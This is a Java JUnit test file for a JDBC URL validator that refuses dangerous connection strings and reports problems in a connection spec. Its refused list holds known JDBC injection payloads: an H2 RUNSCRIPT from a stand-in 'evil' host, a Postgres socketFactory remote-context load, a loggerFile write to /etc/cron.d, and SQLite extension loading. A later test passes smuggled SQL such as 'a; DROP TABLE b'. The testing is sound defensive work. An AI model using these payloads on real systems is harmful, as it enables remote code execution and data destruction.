package io.aimass.ingest.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.aimass.contracts.Settings;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Addresses that could do more than read are refused before any driver sees them. */
class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:mysql://host/db?autoDeserialize=true",
                "jdbc:derby:memory:x;create=true",
                "jdbc:postgresql://host/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil",
                "jdbc:postgresql://host/db?sslfactory=x",
                "jdbc:postgresql://host/db?loggerFile=/etc/cron.d/x&loggerLevel=TRACE",
                "jdbc:postgresql://host/db?jaasApplicationName=x",
                "jdbc:postgresql://host/db?authenticationPluginClassName=x",
                "jdbc:postgresql://host/db?ApplicationName=a&SocketFactory=x",
                "jdbc:postgresql://host/db?password=secret",
                "jdbc:postgresql://user:secret@host/db",
                "jdbc:postgresql:db",
                "jdbc:postgresql://host/db/../x",
                "JDBC:H2:mem:x",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:file:x.db?mode=rwc",
                "jdbc:sqlite:/x.db?enable_load_extension=true",
                "jdbc:sqlite:",
                ""
            })
    void isRefused(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageNotContaining("secret");
    }

    @Test
    void whatIsHarmlessIsTaken() {
        var url = JdbcUrl.parse(
                "jdbc:postgresql://db.example.org:5432,other:5433/sales?sslmode=require&connectTimeout=5");

        assertThat(url.address()).isEqualTo("jdbc:postgresql://db.example.org:5432,other:5433/sales");
        assertThat(url.properties()).containsEntry("sslmode", "require").containsEntry("connectTimeout", "5");
        assertThat(JdbcUrl.parse("jdbc:sqlite:/data/fleet.db").file()).isEqualTo("/data/fleet.db");
    }

    @Test
    void everyProblemOfAConnectionIsReported() {
        var settings = Settings.of(
                "ingest",
                Map.of(
                        "url", "jdbc:h2:mem:x",
                        "table", "a; DROP TABLE b",
                        "query", "DELETE FROM b",
                        "password", "open-sesame",
                        "properties", Map.of("socketFactory", "x"),
                        "partitions", 4));
        new JdbcConnection().plan(settings);

        assertThat(settings.problems())
                .anyMatch(p -> p.startsWith("'url': a database of this kind is not read"))
                .anyMatch(p -> p.startsWith("'table': write it as table or schema.table"))
                .anyMatch(p -> p.startsWith("'query': write one SELECT"))
                .anyMatch(p -> p.startsWith("'password': a password does not belong in a spec"))
                .anyMatch(p -> p.contains("the connection property 'socketFactory' is not allowed"))
                .anyMatch(p -> p.contains("needs either 'table' or 'query'"))
                .anyMatch(p -> p.contains("needs 'connection.partition-column'"))
                .noneMatch(p -> p.contains("open-sesame"));
    }
}
